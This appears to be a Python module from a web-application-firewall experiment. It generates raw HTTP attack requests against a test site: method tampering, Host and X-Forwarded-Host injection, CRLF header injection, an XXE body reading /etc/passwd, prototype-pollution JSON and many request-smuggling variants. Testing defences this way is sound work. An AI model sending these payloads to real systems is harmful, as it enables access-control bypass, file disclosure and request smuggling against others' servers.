"""Attacks on how requests are read, rather than by what is in them: methods, headers, bodies, and requests in requests.

Each is bytes, since no library would send it. Pure.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from experiments.instruments.load import Session
from experiments.waf.attacktexts import PROTOCOL, SMUGGLING
from experiments.waf.webrequest import BROWSER, FORM
from topo.plan import SITE

_HOST = f"Host: {SITE}"
_AGENT = f"User-Agent: {BROWSER}"
_EVIL = "trap.example"
#: in an answer: the site was made to name another
_NAMED = r"trap\.example"
_OK = r"\AHTTP/1\.1 2\d\d"
#: no answer can show it: it means something to no part of this site
_HARMLESS = ""


@dataclass(frozen=True)
class Trick:
    """``raw`` may hold ``{n}``, a number of its own; ``proof``: the pattern in an answer that shows that it worked."""

    input: str
    kind: str
    name: str
    raw: bytes
    proof: str


def tricks(session: Session) -> Iterator[Trick]:
    """All that are known here."""
    yield from _methods(session)
    yield from _headers(session)
    yield from _addresses(session)
    yield from _bodies(session)
    yield from _smuggled(session)


def _text(*lines: str, body: str = "") -> bytes:
    return ("\r\n".join((*lines, "", "")) + body).encode("latin-1")


def _methods(session: Session) -> Iterator[Trick]:
    """Methods that a server may know and this site has not."""
    proofs: Mapping[str, str] = {
        "TRACE": r"\nTRACE / HTTP",
        "OPTIONS": _HARMLESS,
        "CONNECT": _OK,
        "PUT": _OK,
        "DELETE": _OK,
        "PATCH": _OK,
        "PROPFIND": r"\AHTTP/1\.1 207",
        "DEBUG": _OK,
        "JEFF": _OK,
        "get": _OK,
    }
    for method, proof in proofs.items():
        target = f"{_EVIL}:443" if method == "CONNECT" else "/"
        raw = _text(f"{method} {target} HTTP/1.1", _HOST, _AGENT, f"Cookie: {session.cookie}", "Connection: close")
        yield Trick("method", PROTOCOL, method, raw, proof)


def _get(*headers: str, target: str = "/", version: str = "HTTP/1.1", host: str = _HOST) -> bytes:
    return _text(f"GET {target} {version}", host, _AGENT, *headers, "Connection: close")


def _headers(session: Session) -> Iterator[Trick]:
    """Names and values that mean something to somebody on the way."""
    lines = {
        "a method in a header": ("X-HTTP-Method-Override: DELETE", r"\AHTTP/1\.1 20[24]"),
        "an address in a header": ("X-Original-URL: /admin", r"\AHTTP/1\.1 200[\s\S]*<title>[^<]*admin"),
        "another address in a header": ("X-Rewrite-URL: /admin", r"\AHTTP/1\.1 200[\s\S]*<title>[^<]*admin"),
        "a host in a header": (f"X-Forwarded-Host: {_EVIL}", _NAMED),
        "a server in a header": (f"X-Forwarded-Server: {_EVIL}", _NAMED),
        "a prefix in a header": (f"X-Forwarded-Prefix: //{_EVIL}", _NAMED),
        "httpoxy": (f"Proxy: http://{_EVIL}", _NAMED),
        "a header without a name": (": empty", _HARMLESS),
        "a space before the colon": (f"X-Forwarded-Host : {_EVIL}", _HARMLESS),
        "a header that is none": ("no colon in it", _HARMLESS),
        "NUL in a header": ("X-Test: a\x00b", _HARMLESS),
        "a folded header": (f"X-Test: a\r\n X-Forwarded-Host: {_EVIL}", _OK),
        "a bare return": (f"X-Test: a\rX-Forwarded-Host: {_EVIL}", _OK),
        "a name with a bracket": ("X(Test): a", _HARMLESS),
        "a name with an underscore": (f"X_Forwarded_Host: {_EVIL}", _NAMED),
        "20 KB of a header": (f"X-Test: {'a' * 20_000}", _HARMLESS),
        "a cookie that says how to be read": (f'Cookie: $Version=1; {session.cookie}; x="\\073"', _HARMLESS),
        "9 KB of a cookie": (f"Cookie: lang={'a' * 9_000}", _HARMLESS),
        "a hundred ranges": (f"Range: bytes={','.join(f'{n}-' for n in range(100))}", r"\AHTTP/1\.1 206"),
        "an expectation": ("Expect: 200-ok", _HARMLESS),
    }
    for name, (line, proof) in lines.items():
        yield Trick("header", PROTOCOL, name, _get(line), proof)
    yield Trick("Host", PROTOCOL, "another site", _get(host=f"Host: {_EVIL}"), _NAMED)
    yield Trick("Host", PROTOCOL, "two hosts", _get(f"Host: {_EVIL}"), _NAMED)
    yield Trick("Host", PROTOCOL, "no host", _text("GET / HTTP/1.1", _AGENT, "Connection: close"), _HARMLESS)
    yield Trick("Host", PROTOCOL, "an address and a port", _get(host=f"Host: {SITE}:@{_EVIL}"), _NAMED)


def _addresses(session: Session) -> Iterator[Trick]:
    """Request lines that are read in more than one way."""
    lines = {
        "a header in the address": ("/login?name=x%0d%0aSet-Cookie:%20waf={n}", r"\A(?:.+\n)*set-cookie: waf="),
        "a page in the address": ("/login?name=x%0d%0a%0d%0a<html>waf-{n}</html>", r"<html>waf-"),
        "another site's address": (f"http://{_EVIL}/", _NAMED),
        "NUL in the address": ("/login%00.html", _HARMLESS),
        "an input twice": ("/messages?before=1&before=2", _HARMLESS),
        "an overlong character": ("/login?name=%c0%ae%c0%ae", _HARMLESS),
        "half a character": ("/login?name=%ud800", _HARMLESS),
        "10 KB of address": (f"/login?name={'a' * 10_000}", _HARMLESS),
        "a fragment": ("/#/../admin", _HARMLESS),
        "a parameter of the path": ("/login;jsessionid=1", _HARMLESS),
        "a thousand inputs": ("/messages?" + "&".join(f"a{n}=1" for n in range(1000)), _HARMLESS),
    }
    for name, (target, proof) in lines.items():
        yield Trick("request line", PROTOCOL, name, _get(f"Cookie: {session.cookie}", target=target), proof)
    yield Trick("request line", PROTOCOL, "HTTP of the year 1991", b"GET /\r\n\r\n", r"<!doctype html>")
    yield Trick("request line", PROTOCOL, "HTTP of no year", _get(version="HTTP/9.8"), _OK)
    yield Trick("request line", PROTOCOL, "a line that is none", _text("GET", _HOST), _OK)


def _post(session: Session, target: str, body: str, *headers: str, kind: str = FORM) -> bytes:
    own = (f"Content-Type: {kind}",) if kind else ()
    sized = (
        () if any(line.lower().startswith("content-length") for line in headers) else (f"Content-Length: {len(body)}",)
    )
    asked = (f"POST {target} HTTP/1.1", _HOST, _AGENT, f"Cookie: {session.cookie}", f"X-CSRFToken: {session.token}")
    referred = (f"Referer: https://{SITE}{target}", "Connection: close")
    return _text(*asked, *own, *sized, *referred, *headers, body=body)


def _bodies(session: Session) -> Iterator[Trick]:
    """Bodies that are not what they say, or more than can be read."""
    plain = "message=waf-trick"
    parts = '--x\r\nContent-Disposition: form-data; name="message"\r\n\r\nhello\r\n--x--\r\n'
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><message>&e;</message>'
    bodies = {
        "a kind that the site does not read": (parts, "multipart/form-data; boundary=x", ""),
        "XML with a file": (entity, "text/xml", ""),
        "a character set to hide in": (plain, f"{FORM}; charset=ibm037", ""),
        "UTF-7": ("message=+ADw-script+AD4-", f"{FORM}; charset=utf-7", ""),
        "no kind": (plain, "", ""),
        "JSON 1000 deep": ('{"message":' + "[" * 1000 + "]" * 1000 + "}", "application/json", ""),
        "JSON with a prototype": ('{"message":"x","__proto__":{"admin":true}}', "application/json", ""),
        "JSON that is a list": ('["message"]', "application/json", ""),
        "JSON that ends too soon": ('{"message":"x"', "application/json", ""),
        "a body that claims to be packed": (plain, FORM, "Content-Encoding: gzip"),
        "an input twice": ("message=a&message=b", FORM, ""),
        "an input of another form": (f"{plain}&admin=1", FORM, ""),
        "an input with a bracket": ("message[]=a", FORM, ""),
    }
    for name, (body, kind, line) in bodies.items():
        raw = _post(session, "/messages", body, *((line,) if line else ()), kind=kind)
        yield Trick("body", PROTOCOL, name, raw, r"root:x:0:0")
    yield Trick("body", PROTOCOL, "to a page that takes none", _post(session, "/", plain), _OK)


def _smuggled(session: Session) -> Iterator[Trick]:
    """A second request in the body of the first, or behind it: whoever reads the first otherwise takes it for one."""
    inner = f"GET /smuggled-{{n}} HTTP/1.1\r\n{_HOST}\r\nX-Test: "
    length = len(inner) + 3  # of {n}, which is seven digits
    rest = f"{len(inner) + 4:x}\r\n{inner}\r\n0\r\n\r\n"
    late = f"0\r\n\r\n{inner}"
    chunked = "Transfer-Encoding: chunked"
    lines: Mapping[str, tuple[tuple[str, ...], str]] = {
        "both lengths, the number first": ((f"Content-Length: {length + 10}", chunked), late),
        "both lengths, the chunks first": ((chunked, "Content-Length: 4"), rest),
        "chunks by another name": ((f"Content-Length: {length + 10}", "Transfer-Encoding: xchunked"), late),
        "a space before the colon": ((f"Content-Length: {length + 10}", "Transfer-Encoding : chunked"), late),
        "a tab": ((f"Content-Length: {length + 10}", "Transfer-Encoding:\tchunked"), late),
        "a vertical tab": ((f"Content-Length: {length + 10}", "Transfer-Encoding: \x0bchunked"), late),
        "chunks twice": ((f"Content-Length: {length + 10}", chunked, "Transfer-Encoding: identity"), late),
        "two codings": ((f"Content-Length: {length + 10}", "Transfer-Encoding: chunked, identity"), late),
        "a folded coding": ((f"Content-Length: {length + 10}", "Transfer-Encoding:\r\n chunked"), late),
        "two numbers": (("Content-Length: 0", f"Content-Length: {length}"), inner),
        "two numbers in one": ((f"Content-Length: 0, {length}",), inner),
        "a number with a sign": ((f"Content-Length: +{length}",), inner),
        "a number in base 16": ((f"Content-Length: 0x{length:x}",), inner),
        "a chunk with an odd size": (("Content-Length: 4", chunked), rest.replace("\r\n", "\n", 1)),
        "a negative chunk": ((chunked, "Content-Length: 4"), f"-1\r\n{late}"),
        "an upgrade": (("Content-Length: 0", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"), inner),
    }
    for name, (headers, body) in lines.items():
        raw = _post(session, "/login", body, *headers).replace(b"Connection: close\r\n", b"Connection: keep-alive\r\n")
        yield Trick("body", SMUGGLING, name, raw, r"\AHTTP/1\.1 101")
    header = f"Cookie: {session.cookie}", f"Content-Length: {length}"
    hidden = _get(*header) + inner.encode()
    yield Trick("body", SMUGGLING, "behind a page that is asked for", hidden, r"\AHTTP/1\.1 101")
